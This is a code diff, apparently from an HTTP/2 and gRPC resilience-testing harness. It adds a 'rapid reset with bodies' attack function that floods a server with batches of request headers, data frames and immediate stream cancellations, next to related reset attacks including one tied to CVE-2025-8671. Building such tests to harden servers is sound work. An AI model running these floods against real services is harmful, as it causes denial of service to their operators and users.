@@ -128,6 +128,26 @@ def rapid_reset(target: Target) -> None:
 
 
 @attack(HTTP2, GRPC, limits=Limits(cpu_s=4.0))
+def rapid_reset_with_bodies(target: Target) -> None:
+    """Requests with a body each that are reset as soon as it is complete but for its end."""
+    rounds = target.rounds(60)
+    message = b"\0" + struct.pack(">I", 2000) + bytes(1000)
+    while next(rounds, None) is not None:
+        with target.http2() as peer:
+            while peer.is_open:
+                block = peer.fields(GRPC_LIVE if peer.is_grpc else _INFER)
+                requests = bytearray()
+                for _ in range(500):
+                    stream_id = peer.new_id()
+                    requests += wire.frame(wire.HEADERS, wire.FLAG_END_HEADERS, stream_id, block)
+                    requests += wire.frame(wire.DATA, 0, stream_id, message)
+                    requests += wire.rst_stream(stream_id, wire.Http2Code.CANCEL)
+                if not peer.send(bytes(requests)) or next(rounds, None) is None:
+                    break
+            peer.wait_read()
+
+
+@attack(HTTP2, GRPC, limits=Limits(cpu_s=4.0))
 def made_to_reset(target: Target) -> None:
     """Requests that the server has to reset, for a WINDOW_UPDATE of 0 (CVE-2025-8671)."""
     rounds = target.rounds(60)
